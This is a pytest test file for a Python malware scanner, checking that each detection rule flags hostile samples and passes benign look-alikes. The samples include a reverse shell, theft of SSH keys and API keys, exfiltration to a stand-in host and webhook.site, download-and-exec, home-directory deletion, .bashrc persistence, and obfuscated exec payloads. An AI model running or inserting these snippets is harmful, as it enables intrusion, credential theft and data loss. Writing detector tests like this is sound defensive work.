"""Every MH5xx rule: a positive and a benign fixture (source text in the test)."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest

from malhug.analyzers import formats
from malhug.analyzers.dispatch import scan_source
from malhug.analyzers.scripts.analyzer import analyze_text
from malhug.analyzers.shared.source import BytesSource
from malhug.core.model import Category, Severity, Verdict
from malhug.core.rules import CATALOG
from tests.scripts.helpers import by_rule, line_of

POSITIVE: dict[str, tuple[str, Category, Severity, str]] = {
    "MH501": (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')\n",
        Category.REVERSE_SHELL,
        Severity.CRITICAL,
        "pty.spawn('/bin/bash')",
    ),
    "MH502": (
        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        Category.CREDENTIAL_THEFT,
        Severity.HIGH,
        "open(os.path.expanduser('~/.ssh/id_rsa'))",
    ),
    "MH503": (
        "import getpass, requests\nuser = getpass.getuser()\nrequests.post('https://collect.example.com/u', json={'u': user})\n",
        Category.EXFILTRATION,
        Severity.HIGH,
        "requests.post('https://collect.example.com/u', json={'u': user})",
    ),
    "MH504": (
        "import requests\ncode = requests.get('https://127.0.0.1/payload.py').text\nexec(code)\n",
        Category.DOWNLOAD_EXEC,
        Severity.CRITICAL,
        "exec(code)",
    ),
    "MH505": ("import os\nos.system('echo hi')\n", Category.COMMAND_EXEC, Severity.HIGH, "os.system('echo hi')"),
    "MH506": ("def run(src):\n    return eval(src)\n", Category.CODE_EXEC, Severity.MEDIUM, "eval(src)"),
    "MH507": (
        f"import base64\nexec(base64.b64decode({base64.b64encode(b'x = 1 + 1').decode()!r}))\n",
        Category.OBFUSCATION,
        Severity.HIGH,
        "exec('x = 1 + 1')",
    ),
    "MH508": (
        "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n",
        Category.DESTRUCTIVE,
        Severity.HIGH,
        "shutil.rmtree(",
    ),
    "MH509": ("import getpass\nwho = getpass.getuser()\n", Category.RECON, Severity.MEDIUM, "getpass.getuser()"),
    "MH510": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl 127.0.0.1 | sh')\n",
        Category.FILE_WRITE,
        Severity.CRITICAL,
        "open(os.path.expanduser('~/.bashrc'), 'a')",
    ),
    "MH511": ("open('pwned.txt', 'w').write('x')\n", Category.FILE_WRITE, Severity.MEDIUM, "open('pwned.txt', 'w')"),
    "MH512": ("import socket\n", Category.UNSAFE_IMPORT, Severity.INFO, "import socket"),
    "MH513": (
        "import requests\nrequests.get('https://webhook.site/abc')\n",
        Category.EXFILTRATION,
        Severity.HIGH,
        "requests.get('https://webhook.site/abc')",
    ),
    "MH515": (
        "import os\ntoken = os.environ['OPENAI_API_KEY']\n",
        Category.CREDENTIAL_THEFT,
        Severity.LOW,
        "os.environ['OPENAI_API_KEY']",
    ),
}

BENIGN: dict[str, str] = {
    "MH501": "import socket\ns = socket.create_connection(('127.0.0.1', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(100))\n",
    "MH502": "import os\nrows = open(os.path.join('data', 'ssh_sessions.csv')).read()\nkeys = open('keys.json').read()\n",
    "MH503": "import requests\nr = requests.get('https://example.org/data.json', params={'split': 'train'})\nrows = r.json()\n",
    "MH504": "import io, requests, pandas as pd\nframe = pd.read_csv(io.StringIO(requests.get('https://example.org/a.csv').text))\n",
    "MH505": "import os\npath = os.path.join('a', 'b')\nos.makedirs(path, exist_ok=True)\n",
    "MH506": "import ast\nvalue = ast.literal_eval('[1, 2]')\n",
    "MH507": "import base64\nimage = base64.b64decode('aGVsbG8=')\nprint(len(image))\n",
    "MH508": "import shutil, tempfile\ntmp = tempfile.mkdtemp()\nshutil.rmtree(tmp)\n",
    "MH509": "import platform\nsep = '\\\\' if platform.system() == 'Windows' else '/'\n",
    "MH510": "import os, json\ndef save(out_dir, rows):\n    with open(os.path.join(out_dir, 'rows.json'), 'w') as f:\n        json.dump(rows, f)\n",
    "MH511": "def save(path, text):\n    with open(path, 'w') as f:\n        f.write(text)\n",
    "MH512": "import json\nimport csv\n",
    "MH513": "import requests\nrequests.get('https://raw.githubusercontent.com/org/repo/main/train.csv')\n",
    "MH515": "import os\ncache = os.environ.get('HF_DATASETS_CACHE')\nhome = os.getenv('HF_HOME')\n",
}


def test_every_scripts_rule_has_fixtures() -> None:
    ours = {r for r in CATALOG if r.startswith("MH5")}
    assert ours == set(POSITIVE) | set(BENIGN) | {"MH514"}
    assert set(POSITIVE) == set(BENIGN)


@pytest.mark.parametrize("rule", sorted(POSITIVE))
def test_positive(rule: str) -> None:
    code, category, severity, evidence = POSITIVE[rule]
    findings = by_rule(analyze_text(code), rule)
    assert findings, f"{rule} not reported"
    f = findings[0]
    assert f.category is category
    assert f.severity is severity
    assert f.evidence.startswith(evidence)
    assert f.location.line == line_of(code, evidence if rule != "MH507" else "exec(")


@pytest.mark.parametrize("rule", sorted(BENIGN))
def test_benign(rule: str) -> None:
    findings = analyze_text(BENIGN[rule])
    assert not by_rule(findings, rule), [(f.rule, f.message) for f in findings]
    assert all(f.severity <= Severity.LOW for f in findings), [(f.rule, f.message) for f in findings]


def test_mh514_syntax_error_is_reported_by_the_file_analyzer() -> None:
    code = "import os\ndef broken(:\n    pass\nos.system('id')\n"
    report = scan_source(BytesSource(code.encode()), name="x.py", format_hint=formats.PYTHON)
    (err,) = by_rule(report.findings, "MH514")
    assert err.severity is Severity.MEDIUM and err.location.line == 2
    (run,) = by_rule(report.findings, "MH505")
    assert run.location.line == 4, "the rest of the file is still analyzed"
    assert report.verdict is Verdict.MALICIOUS


def test_mh514_benign_valid_file() -> None:
    report = scan_source(BytesSource(b"x = 1\n"), name="x.py", format_hint=formats.PYTHON)
    assert report.findings == [] and report.verdict is Verdict.CLEAN


def test_mh514_unparseable_file_is_never_clean() -> None:
    report = scan_source(BytesSource(b"(((((\n" * 20), name="x.py", format_hint=formats.PYTHON)
    assert by_rule(report.findings, "MH514") and report.verdict is Verdict.SUSPICIOUS


# -- MH507: each decoder ---------------------------------------------------------------------------
ID = "import os; os.system('id')"
OBFUSCATED = {
    "base64": f"import base64\nexec(base64.b64decode('{base64.b64encode(ID.encode()).decode()}'))",
    "base32": f"import base64\nexec(base64.b32decode('{base64.b32encode(ID.encode()).decode()}'))",
    "base85": f"import base64\nexec(base64.b85decode({base64.b85encode(ID.encode())!r}))",
    "hex": f"exec(bytes.fromhex('{ID.encode().hex()}'))",
    "zlib": f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(ID.encode())).decode()}')))",
    "rot13": f"import codecs\nexec(codecs.decode({codecs.encode(ID, 'rot13')!r}, 'rot13'))",
    "chr list": "exec(''.join(chr(c) for c in [" + ",".join(str(ord(c)) for c in ID) + "]))",
    "map chr": "exec(''.join(map(chr, [" + ",".join(str(ord(c)) for c in ID) + "])))",
    "reversed slice": f"exec({ID[::-1]!r}[::-1])",
    "concatenation": "exec('import o' + 's; os.sys' + 'tem(\"id\")')",
    "bytes list": "exec(bytes([" + ",".join(str(b) for b in ID.encode()) + "]).decode())",
}


@pytest.mark.parametrize("how", sorted(OBFUSCATED))
def test_obfuscated_payload_is_decoded_and_categorised(how: str) -> None:
    findings = analyze_text(OBFUSCATED[how])
    hits = by_rule(findings, "MH507") + by_rule(findings, "MH506")
    assert hits, [(f.rule, f.message) for f in findings]
    f = hits[0]
    assert f.category is Category.RECON, f.message
    assert "gathers system information with id" in f.message
    if how != "concatenation":
        assert f.rule == "MH507"


def test_getattr_with_folded_name_and_aliases() -> None:
    code = (
        "import os as o\nfrom subprocess import check_output as co\n"
        "f = getattr(o, 'sys' + 'tem')\nf('whoami')\nrun = o.popen\nrun('uname -a')\nco(['id'])\n"
    )
    findings = by_rule(analyze_text(code), "MH505")
    assert [(f.location.line, f.category) for f in findings] == [
        (4, Category.RECON),
        (6, Category.RECON),
        (7, Category.RECON),
    ]
